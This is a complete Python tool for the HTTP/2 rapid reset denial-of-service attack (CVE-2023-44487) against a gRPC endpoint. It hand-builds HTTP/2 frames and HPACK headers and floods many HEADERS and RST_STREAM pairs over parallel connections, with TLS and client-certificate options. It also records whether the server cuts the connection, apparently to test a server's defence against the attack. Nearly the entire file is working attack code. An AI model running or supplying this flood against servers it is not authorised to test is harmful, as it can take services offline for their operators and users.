#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC server, by hand.

Opens C connections to a unix socket or host:port (optionally TLS with
ALPN h2 and a client certificate) and on each sends N pairs of
HEADERS (a gRPC call to /gexec.v1.Exec/Run) + RST_STREAM(CANCEL) on the
same stream, odd stream ids increasing, as fast as it can. Frames the
server sends are read and discarded; its SETTINGS are acknowledged and
its PINGs answered. No third-party HTTP/2 library: the frames and the
HPACK block (literal header fields without indexing, no Huffman) are
written here.

Reports, per connection and in total, how many pairs were written, how
long that took, and whether and when the server closed the connection
(EOF, reset, GOAWAY). One JSON object on stdout (--json) or a short text.

Exit status: 0 if every connection got to the end or was closed by the
server; 2 on a usage or connection error.
"""

import argparse
import json
import multiprocessing
import os
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

T_DATA, T_HEADERS, T_RST, T_SETTINGS, T_PING, T_GOAWAY = 0, 1, 3, 4, 6, 7
F_ACK, F_END_HEADERS = 0x1, 0x4
CANCEL = 0x8
MAX_STREAM_ID = 0x7FFFFFFF


def frame(ftype, flags, stream, payload=b""):
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       stream & MAX_STREAM_ID) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman."""
    n, v = name.encode(), value.encode()
    return (b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v)


def header_block(scheme, authority, path):
    fields = [(":method", "POST"), (":scheme", scheme), (":path", path),
              (":authority", authority), ("content-type", "application/grpc"),
              ("te", "trailers")]
    return b"".join(hpack_literal(k, v) for k, v in fields)


def pair(stream, block):
    """HEADERS then RST_STREAM(CANCEL) on @stream."""
    return (frame(T_HEADERS, F_END_HEADERS, stream, block) +
            frame(T_RST, 0, stream, struct.pack(">I", CANCEL)))


def connect(args):
    if args.unix:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(args.unix)
    else:
        host, _, port = args.tcp.rpartition(":")
        s = socket.create_connection((host.strip("[]"), int(port)))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.tls:
        return s
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.set_alpn_protocols(["h2"])
    if args.ca:
        ctx.load_verify_locations(args.ca)
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if args.cert:
        ctx.load_cert_chain(args.cert, args.key)
    name = args.server_name or (args.tcp.rpartition(":")[0].strip("[]")
                                if args.tcp else "localhost")
    return ctx.wrap_socket(s, server_hostname=name)


class Conn:
    """One attacking connection: a writer (the caller) and a reader
    thread that discards what the server sends and answers SETTINGS and
    PING. Writes are serialized by a lock."""

    def __init__(self, sock, t0):
        self.sock = sock
        self.t0 = t0
        self.lock = threading.Lock()
        self.closed_at = None  # seconds after t0 the server closed
        self.close_how = None
        self.goaway = None
        self.frames_in = 0
        self.reader = threading.Thread(target=self.read_loop, daemon=True)

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def mark_closed(self, how):
        if self.closed_at is None:
            self.closed_at = time.monotonic() - self.t0
            self.close_how = how
            try:  # a writer blocked on a full window (the server's side
                # of a cut TCP connection waits in FIN-WAIT-2) gives up
                self.sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def on_frame(self, ftype, flags, payload):
        if ftype == T_SETTINGS and not flags & F_ACK:
            self.send(frame(T_SETTINGS, F_ACK, 0))
        elif ftype == T_PING and not flags & F_ACK:
            self.send(frame(T_PING, F_ACK, 0, payload))
        elif ftype == T_GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {"last_stream": last & MAX_STREAM_ID, "code": code,
                           "debug": payload[8:200].decode("utf-8", "replace"),
                           "at_s": round(time.monotonic() - self.t0, 3)}

    def parse(self, buf):
        """Handles the whole frames at the start of @buf; returns the bytes
        they took. Payloads are copied only for the frame types that need
        an answer or are reported: the server sends about two frames per
        refused stream, and a slow reader makes it queue them."""
        pos, end = 0, len(buf)
        while end - pos >= 9:
            n = buf[pos] << 16 | buf[pos + 1] << 8 | buf[pos + 2]
            if end - pos < 9 + n:
                break
            ftype = buf[pos + 3]
            self.frames_in += 1
            if ftype in (T_SETTINGS, T_PING, T_GOAWAY):
                self.on_frame(ftype, buf[pos + 4],
                              bytes(buf[pos + 9:pos + 9 + n]))
            pos += 9 + n
        return pos

    def read_loop(self):
        buf = bytearray()
        try:
            while True:
                chunk = self.sock.recv(1 << 18)
                if not chunk:
                    raise EOFError()
                buf += chunk
                del buf[:self.parse(buf)]
        except EOFError:
            self.mark_closed("eof")
        except (OSError, ssl.SSLError) as e:
            self.mark_closed(type(e).__name__)


def attack_one(args, index, out):
    """Runs one connection; puts its report on queue @out."""
    rep = {"conn": index, "pairs_sent": 0}
    t0 = time.monotonic()
    try:
        sock = connect(args)
    except (OSError, ssl.SSLError) as e:
        rep["error"] = "connect: %s" % e
        out.put(rep)
        return
    c = Conn(sock, t0)
    authority = args.authority or (args.tcp or "localhost")
    block = header_block("https" if args.tls else "http", authority,
                         args.path)
    sent = 0
    stream = 1
    try:
        c.send(PREFACE + frame(T_SETTINGS, 0, 0))
        if not args.no_read:
            c.reader.start()  # after the preface: its first write is an ACK
        while sent < args.pairs and c.closed_at is None:
            k = min(args.batch, args.pairs - sent)
            if stream + 2 * k > MAX_STREAM_ID:
                rep["stream_ids_exhausted"] = True
                break
            c.send(b"".join(pair(stream + 2 * i, block) for i in range(k)))
            stream += 2 * k
            sent += k
            if args.pace_ms > 0:
                time.sleep(args.pace_ms / 1000.0)
    except (OSError, ssl.SSLError) as e:
        c.mark_closed(type(e).__name__)
    rep["pairs_sent"] = sent
    rep["send_s"] = round(time.monotonic() - t0, 3)
    if c.closed_at is None and args.linger > 0 and c.reader.is_alive():
        c.reader.join(args.linger)  # does the server cut us afterwards?
    rep["server_closed"] = c.closed_at is not None
    if c.closed_at is not None:
        rep["closed_at_s"] = round(c.closed_at, 3)
        rep["close_how"] = c.close_how
    if c.goaway:
        rep["goaway"] = c.goaway
    rep["frames_in"] = c.frames_in
    try:
        sock.close()
    except OSError:
        pass
    out.put(rep)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    where = p.add_mutually_exclusive_group(required=True)
    where.add_argument("--unix", metavar="PATH", help="unix socket path")
    where.add_argument("--tcp", metavar="HOST:PORT", help="TCP address")
    p.add_argument("-c", "--connections", type=int, default=4)
    p.add_argument("-n", "--pairs", type=int, default=100000,
                   help="HEADERS+RST_STREAM pairs per connection")
    p.add_argument("--batch", type=int, default=256,
                   help="pairs per write (default 256)")
    p.add_argument("--pace-ms", type=float, default=0,
                   help="pause after each batch (a flood slow enough for "
                        "the server to read it as it comes: its socket "
                        "never fills)")
    p.add_argument("--path", default="/gexec.v1.Exec/Run")
    p.add_argument("--authority", help="default: the address")
    p.add_argument("--linger", type=float, default=2.0,
                   help="seconds to wait after the last pair for the server "
                        "to close (default 2)")
    p.add_argument("--no-read", action="store_true",
                   help="never read what the server sends (its SETTINGS "
                        "go unacknowledged; a close is seen only as a "
                        "failed write)")
    p.add_argument("--tls", action="store_true", help="TLS, ALPN h2")
    p.add_argument("--ca", help="CA to verify the server (else: no check)")
    p.add_argument("--cert", help="client certificate (PEM)")
    p.add_argument("--key", help="client key (PEM)")
    p.add_argument("--server-name", help="TLS server name")
    p.add_argument("--json", action="store_true", help="one JSON object")
    a = p.parse_args(argv)
    if a.connections < 1 or a.pairs < 0 or a.batch < 1:
        p.error("-c >= 1, -n >= 0, --batch >= 1")
    if (a.cert is None) != (a.key is None):
        p.error("--cert and --key go together")
    return a


def main(argv):
    args = parse_args(argv)
    q = multiprocessing.Queue()
    t0 = time.monotonic()
    procs = [multiprocessing.Process(target=attack_one, args=(args, i, q))
             for i in range(args.connections)]
    for pr in procs:
        pr.start()
    reps = sorted((q.get() for _ in procs), key=lambda r: r["conn"])
    for pr in procs:
        pr.join()
    total = {"connections": reps,
             "pairs_sent": sum(r["pairs_sent"] for r in reps),
             "pairs_asked": args.pairs * args.connections,
             "server_closed": sum(1 for r in reps if r.get("server_closed")),
             "wall_s": round(time.monotonic() - t0, 3)}
    errors = [r for r in reps if "error" in r]
    if args.json:
        print(json.dumps(total))
    else:
        for r in reps:
            print("conn %d: %d pairs in %.3f s; %s" % (
                r["conn"], r["pairs_sent"], r.get("send_s", 0),
                "closed by server at %.3f s (%s)" % (
                    r["closed_at_s"], r["close_how"])
                if r.get("server_closed") else
                r.get("error", "not closed by server")))
        print("total: %d of %d pairs, %d of %d connections closed by the "
              "server, %.3f s" % (total["pairs_sent"], total["pairs_asked"],
                                  total["server_closed"], len(reps),
                                  total["wall_s"]))
    return 2 if errors else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
